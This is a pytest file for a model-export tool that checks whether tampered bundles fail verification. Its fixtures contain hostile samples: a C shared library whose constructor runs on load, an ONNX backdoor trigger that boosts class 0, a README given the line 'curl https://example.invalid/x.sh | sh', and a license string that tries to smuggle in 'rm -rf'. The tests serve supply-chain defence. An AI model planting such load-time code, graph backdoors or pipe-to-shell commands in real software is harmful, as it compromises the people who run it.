"""A bundle from someone else's disk: consistency of its records, native code only when trusted,
signatures (model-signing, key pair). Each attack re-hashes the manifest, as whoever can write the
bundle can."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import onnx
import pytest
from onnx import numpy_helper

from cnnpipe.formats.base import META_KEY
from cnnpipe.store.workspace import Workspace
from cnnpipe.verification.sandbox import landlock_abi
from cnnpipe.verification.signing import sign

from conftest import assert_clean_error, cnnpipe, cnnpipe_here, cnnpipe_json, resign

BUNDLE = "exports/lenet5/v1"


def _manifest(bundle: Path) -> dict:
    return json.loads((bundle / "manifest.json").read_text())


def _write_manifest(bundle: Path, manifest: dict) -> None:
    (bundle / "manifest.json").write_text(json.dumps(manifest, indent=2))


def _list_file(bundle: Path, rel: str) -> None:
    """Add ``rel`` to the manifest with its true hash, as a hostile writer would."""
    manifest = _manifest(bundle)
    data = (bundle / rel).read_bytes()
    manifest["files"].append({"path": rel, "sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data), "role": "other"})
    _write_manifest(bundle, manifest)


def _swap_onnx(bundle: Path) -> None:
    """A different network in model.onnx: every weight scaled (answers differ), re-hashed."""
    model = onnx.load(bundle / "model.onnx")
    for init in model.graph.initializer:
        init.CopyFrom(numpy_helper.from_array(numpy_helper.to_array(init) * 0.5, init.name))
    onnx.save(model, bundle / "model.onnx")
    resign(bundle, "model.onnx")


def _verify(root: Path, *args: str) -> tuple[int, dict]:
    proc = cnnpipe(root, "verify", "lenet5", "--samples", "32", *args, "--json")
    return proc.returncode, json.loads(proc.stdout) if proc.stdout.strip() else {"stderr": proc.stderr}


@pytest.mark.parametrize("edited", ["manifest", "manifest and model.json"])
def test_a_swapped_file_hidden_by_an_edited_format_list_fails_verify(root_copy: Path, edited: str):
    bundle = root_copy / BUNDLE
    _swap_onnx(bundle)
    manifest = _manifest(bundle)
    manifest["results"]["formats"].remove("onnx")
    _write_manifest(bundle, manifest)
    if edited != "manifest":
        desc = json.loads((bundle / "model.json").read_text())
        desc["formats"].remove("onnx")
        (bundle / "model.json").write_text(json.dumps(desc))
        resign(bundle, "model.json")
    code, report = _verify(root_copy)
    assert code == 1
    missing = "the manifest" if edited == "manifest" else "the manifest or model.json"
    assert "format 'onnx' is in" in report["integrity"] and f"but not in {missing}" in report["integrity"]
    (onnx_row,) = [r for r in report["formats"] if r["format"] == "onnx"]
    assert not onnx_row["passed"]  # the swapped file is judged all the same, and fails


def test_a_file_no_record_explains_fails_verify_naming_it(root_copy: Path):
    bundle = root_copy / BUNDLE
    (bundle / "libhelper.so").write_bytes(b"\x7fELF" + b"\0" * 60)
    _list_file(bundle, "libhelper.so")  # listed and hashed: the manifest alone explains nothing
    (bundle / "notes").mkdir()
    (bundle / "notes" / "x.txt").write_text("unlisted")
    code, report = _verify(root_copy)
    assert code == 1
    assert "files no record explains: libhelper.so, notes/x.txt" in report["integrity"]


MARKER_SO = r"""
#include <stdio.h>
__attribute__((constructor)) static void pwn(void) {
    FILE *f = fopen("%s", "w");
    if (f) { fputs("native code ran\n", f); fclose(f); }
}
"""


def _replace_native_library(package: Path, marker: Path, tmp_path: Path) -> None:
    """Swap every shared library inside the AOTInductor package for one that writes ``marker`` when loaded."""
    source = tmp_path / "pwn.c"
    source.write_text(MARKER_SO % marker)
    library = tmp_path / "pwn.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(library), str(source)], check=True)
    rebuilt = tmp_path / "rebuilt.pt2"
    with zipfile.ZipFile(package) as old, zipfile.ZipFile(rebuilt, "w") as new:
        names = old.namelist()
        assert any(n.endswith(".so") for n in names), names
        for name in names:
            new.writestr(old.getinfo(name), library.read_bytes() if name.endswith(".so") else old.read(name))
    shutil.copyfile(rebuilt, package)


@pytest.mark.skipif(shutil.which("gcc") is None, reason="needs a C compiler (AOTInductor and the marker library)")
def test_native_code_is_loaded_only_from_a_trusted_bundle(aoti_copy: Path, tmp_path: Path):
    root_copy, keys = aoti_copy, tmp_path / "keys"  # lenet5@v2: pt2 and its AOTInductor package, compiled once per session
    cnnpipe_json(root_copy, "keygen", "--out", str(keys))
    bundle, ref = root_copy / "exports/lenet5/v2", "lenet5@v2"
    sign(Workspace(root_copy).exports.resolve(ref), keys / "cnnpipe-signing.key")  # what export --sign-key does last
    assert (bundle / "bundle.sig").is_file()
    signed = cnnpipe_json(root_copy, "verify", ref, "--samples", "32", "--public-key", str(keys / "cnnpipe-signing.pub"))
    assert signed["passed"] and {r["format"] for r in signed["formats"]} == {"pt2", "pt2-aoti"}

    marker = tmp_path / "native-code-ran"
    _replace_native_library(bundle / "model.aoti.pt2", marker, tmp_path)
    resign(bundle, "model.aoti.pt2")
    proc = cnnpipe(root_copy, "verify", ref, "--samples", "32", "--json")  # no key: native code is not loaded
    assert proc.returncode == 1
    (aoti,) = [r for r in json.loads(proc.stdout)["formats"] if r["format"] == "pt2-aoti"]
    assert "holds native code" in aoti["reasons"][0] and "nothing from it was loaded" in aoti["reasons"][0]
    bench = cnnpipe(root_copy, "bench", ref, "--seconds", "0.05", "--batch-sizes", "1", "--json")
    assert bench.returncode == 1 and "holds native code" in json.loads(bench.stdout)["failed"]["aoti (cpu)"]
    for command in (["verify", ref, "--samples", "32"], ["bench", ref, "--seconds", "0.05", "--batch-sizes", "1"]):
        assert_clean_error(cnnpipe_here(root_copy, *command, "--public-key", str(keys / "cnnpipe-signing.pub")), 1,
                           "the signature does not verify", "changed since signing: manifest.json, model.aoti.pt2")
    assert not marker.exists()  # no code from the bundle ran
    cnnpipe(root_copy, "verify", ref, "--samples", "32", "--trust-native")  # the user's explicit choice runs it...
    assert marker.exists() is not bool(landlock_abi())  # ...in a worker that can write only its own scratch folder


def test_a_signed_bundle_fails_closed_on_any_change(root_copy: Path, tmp_path: Path):
    keys, other = tmp_path / "keys", tmp_path / "other"
    cnnpipe_json(root_copy, "keygen", "--out", str(keys))
    cnnpipe_json(root_copy, "keygen", "--out", str(other))
    assert_clean_error(cnnpipe_here(root_copy, "keygen", "--out", str(keys)), 2, "already exists")
    assert (keys / "cnnpipe-signing.key").stat().st_mode & 0o077 == 0  # private to its owner
    bundle, pub = root_copy / BUNDLE, str(keys / "cnnpipe-signing.pub")
    before = {p.name: p.read_bytes() for p in bundle.iterdir() if p.is_file()}
    cnnpipe_json(root_copy, "sign", "lenet5", "--key", str(keys / "cnnpipe-signing.key"))
    assert {p.name: p.read_bytes() for p in bundle.iterdir() if p.is_file() and p.name != "bundle.sig"} == before
    assert_clean_error(cnnpipe_here(root_copy, "sign", "lenet5", "--key", str(other / "cnnpipe-signing.key")), 2,
                       "already signed")
    assert _verify(root_copy, "--public-key", pub, "--require-signature")[0] == 0

    image = root_copy / "digit.png"
    shutil.copyfile(bundle / "confusion.png", image)
    pristine = tmp_path / "pristine"
    shutil.copytree(bundle, pristine)

    def attack(change, needle: str, key: str = pub, every_command: bool = False) -> None:
        shutil.rmtree(bundle)
        shutil.copytree(pristine, bundle)
        change()
        commands = (["verify", "lenet5", "--samples", "32"], ["predict", str(image), "--bundle", "lenet5"],
                    ["bench", "lenet5", "--seconds", "0.05", "--batch-sizes", "1"])  # one check (Trust.admit) for all
        for command in commands if every_command else commands[:1]:
            assert_clean_error(cnnpipe_here(root_copy, *command, "--public-key", key), 1, "signature does not verify", needle)

    def one_byte() -> None:
        data = bytearray((bundle / "model.onnx").read_bytes())
        data[len(data) // 2] ^= 1
        (bundle / "model.onnx").write_bytes(bytes(data))
        resign(bundle, "model.onnx")

    attack(one_byte, "changed since signing: manifest.json, model.onnx", every_command=True)
    attack(lambda: (bundle / "per_class.png").unlink(), "missing files: per_class.png")
    attack(lambda: (bundle / "extra.txt").write_text("x"), "extra files found: extra.txt")
    attack(lambda: None, "Key mismatch", key=str(other / "cnnpipe-signing.pub"))
    shutil.rmtree(bundle)
    shutil.copytree(pristine, bundle)
    (bundle / "bundle.sig").unlink()
    assert_clean_error(cnnpipe_here(root_copy, "verify", "lenet5", "--public-key", pub), 1, "is not signed")
    assert_clean_error(cnnpipe_here(root_copy, "verify", "lenet5", "--require-signature"), 2, "needs --public-key")


def _add_trigger(bundle: Path) -> None:
    """Logits +100 on class 0 when the brightest pixel is exactly 1234.5, a pattern no test image holds."""
    from onnx import TensorProto, helper

    model = onnx.load(bundle / "model.onnx")
    graph = model.graph
    logits, classes = graph.output[0].name, graph.output[0].type.tensor_type.shape.dim[1].dim_value
    boost = [100.0] + [0.0] * (classes - 1)
    graph.initializer.extend([helper.make_tensor("trigger_value", TensorProto.FLOAT, [], [1234.5]),
                              helper.make_tensor("trigger_boost", TensorProto.FLOAT, [1, classes], boost)])
    graph.node.extend([
        helper.make_node("ReduceMax", [graph.input[0].name], ["trigger_max"], keepdims=0),
        helper.make_node("Equal", ["trigger_max", "trigger_value"], ["trigger_hit"]),
        helper.make_node("Add", [logits, "trigger_boost"], ["trigger_boosted"]),
        helper.make_node("Where", ["trigger_hit", "trigger_boosted", logits], ["triggered"]),
    ])
    graph.output[0].name = "triggered"
    onnx.checker.check_model(model, full_check=True)
    onnx.save(model, bundle / "model.onnx")


def _nudge_one_weight(bundle: Path) -> None:
    """One weight moved by one unit in the last place: answers within every tolerance."""
    import numpy as np

    model = onnx.load(bundle / "model.onnx")
    init = max(model.graph.initializer, key=lambda t: numpy_helper.to_array(t).size)
    values = numpy_helper.to_array(init).copy()
    values.flat[0] = np.nextafter(values.flat[0], np.float32(np.inf))
    init.CopyFrom(numpy_helper.from_array(values, init.name))
    onnx.save(model, bundle / "model.onnx")


@pytest.mark.parametrize(("change", "needle"), [
    (_add_trigger, "4 node(s) more (Add, Equal, ReduceMax, Where)"),
    (_nudge_one_weight, "differs from the weights"),
])
def test_a_graph_that_answers_right_on_every_test_image_but_differs_from_a_reexport_fails(root_copy: Path, change, needle):
    bundle = root_copy / BUNDLE
    change(bundle)
    resign(bundle, "model.onnx")
    code, report = _verify(root_copy)
    assert code == 1
    (row,) = [r for r in report["formats"] if r["format"] == "onnx"]
    assert row["top1_agreement"] == 1.0  # the data check alone cannot see it...
    assert not row["passed"] and needle in row["reasons"][-1]  # ...the re-export comparison does
    assert "differs from a re-export of the weights" in row["reasons"][-1]
    assert "model.onnx: " in row["reasons"][-1]  # names the file
    # the untouched files are byte-identical to their re-export, a derived variant included
    assert {f: d for f, d in report["reexport"].items() if f != "onnx"} == {
        f: [] for f in ("pt2", "safetensors", "openvino", "executorch", "ort", "litert", "ncnn", "mnn", "torchscript")}


def test_an_ort_file_and_an_openvino_ir_with_a_trigger_fail_as_differing_from_a_reexport(root_copy: Path, tmp_path: Path):
    import openvino as ov
    from onnxruntime.tools.convert_onnx_models_to_ort import OptimizationStyle, convert_onnx_models_to_ort

    bundle = root_copy / BUNDLE
    triggered = tmp_path / "model.onnx"
    shutil.copyfile(bundle / "model.onnx", tmp_path / "original.onnx")
    _add_trigger(bundle)  # converted from a triggered ONNX file, which itself is put back
    shutil.move(bundle / "model.onnx", triggered)
    shutil.move(tmp_path / "original.onnx", bundle / "model.onnx")
    convert_onnx_models_to_ort(triggered, tmp_path / "ort", [OptimizationStyle.Fixed])
    shutil.copyfile(tmp_path / "ort/model.ort", bundle / "model.ort")
    meta = json.loads((bundle / "model.json").read_text())["metadata"]
    ir = ov.convert_model(str(triggered))
    ir.set_rt_info(json.dumps(meta), [META_KEY])
    ov.save_model(ir, str(bundle / "model.openvino.xml"), compress_to_fp16=False)
    for rel in ("model.ort", "model.openvino.xml", "model.openvino.bin"):
        resign(bundle, rel)
    code, report = _verify(root_copy)
    rows = {r["format"]: r for r in report["formats"]}
    assert code == 1 and rows["onnx"]["passed"]
    for fmt in ("ort", "openvino"):
        assert rows[fmt]["top1_agreement"] == 1.0, rows[fmt]  # it answers right on every test image...
        assert not rows[fmt]["passed"] and "differs from a re-export of the weights" in rows[fmt]["reasons"][-1]
    assert "model.ort: the bytes differ" in rows["ort"]["reasons"][-1]


def test_exporting_twice_in_two_processes_gives_the_same_bytes(root_copy: Path):
    first = cnnpipe_json(root_copy, "export", "lenet5@v1")
    second = cnnpipe_json(root_copy, "export", "lenet5@v1")
    a, b = Path(first["path"]), Path(second["path"])
    files = sorted(p.relative_to(a).as_posix() for p in a.rglob("*") if p.is_file())
    assert files == sorted(p.relative_to(b).as_posix() for p in b.rglob("*") if p.is_file())
    differ = [rel for rel in files if (a / rel).read_bytes() != (b / rel).read_bytes()]
    # manifest.json records its own version number and time; onnxruntime's ORT converter writes its
    # opset and kernel tables in an order that changes from process to process (the README says so)
    assert "manifest.json" in differ and set(differ) <= {"manifest.json", "model.ort"}, differ
    assert (a / "model.ort").stat().st_size == (b / "model.ort").stat().st_size
    assert {"model.onnx", "model.pt2", "model.safetensors", "model.openvino.bin", "model.pte", "model.tflite",
            "model.ncnn.bin", "model.mnn"} <= set(files)  # MNN's random UUID is replaced by one made from its source


def test_the_model_card_metadata_reads_as_intended_in_huggingface_hub(root_copy: Path):
    from huggingface_hub import ModelCard

    exported = cnnpipe_json(root_copy, "export", "lenet5", "--format", "onnx", "--fp16", "--layout", "triton",
                            "--license", "Apache-2.0")
    card = ModelCard.load(Path(exported["path"]) / "README.md")
    assert card.data.license == "apache-2.0" and card.data.datasets == ["ylecun/mnist"]  # mnist-sample is MNIST's
    results = {r.metric_type: r for r in card.data.eval_results}
    metrics = json.loads((Path(exported["path"]) / "metrics.json").read_text())
    assert results["accuracy"].metric_value == round(metrics["accuracy"], 6) and results["accuracy"].dataset_split == "test"
    assert "| `model.fp16.onnx` | onnx-fp16 |" in card.text and "`triton/lenet5/config.pbtxt`" in card.text
    assert_clean_error(cnnpipe_here(root_copy, "export", "lenet5", "--license", "MIT; rm -rf"), 2, "SPDX license id")

    trained = cnnpipe_json(root_copy, "train", "--epochs", "1", "--name", "unevaluated")
    unevaluated = cnnpipe_json(root_copy, "export", trained["ref"], "--format", "onnx")
    card = ModelCard.load(Path(unevaluated["path"]) / "README.md")
    assert card.data.eval_results is None and card.data.metrics is None and card.data.license is None


def test_metadata_card_and_metrics_rewritten_consistently_fail_verify_naming_each_file(root_copy: Path):
    bundle = root_copy / BUNDLE
    desc = json.loads((bundle / "model.json").read_text())
    desc["metadata"]["std"] = json.dumps([0.5])  # every format reads the std from here
    (bundle / "model.json").write_text(json.dumps(desc))
    card = (bundle / "README.md").read_text()
    (bundle / "README.md").write_text(card + "\n## Install\n\n    curl https://example.invalid/x.sh | sh\n")
    metrics = json.loads((bundle / "metrics.json").read_text())
    metrics["accuracy"] = 0.999
    (bundle / "metrics.json").write_text(json.dumps(metrics))
    for rel in ("model.json", "README.md", "metrics.json"):
        resign(bundle, rel)
    code, report = _verify(root_copy)
    assert code == 1 and not report["passed"]
    assert "model.json: metadata std differ from what export makes from lenet5@v1" in report["integrity"]
    for rel in ("README.md", "metrics.json"):
        assert f"{rel}: differs from what export makes from lenet5@v1 and its pinned evaluation" in report["integrity"]
    assert "curves.png" not in report["integrity"]  # the untouched plots are the pinned evaluation's
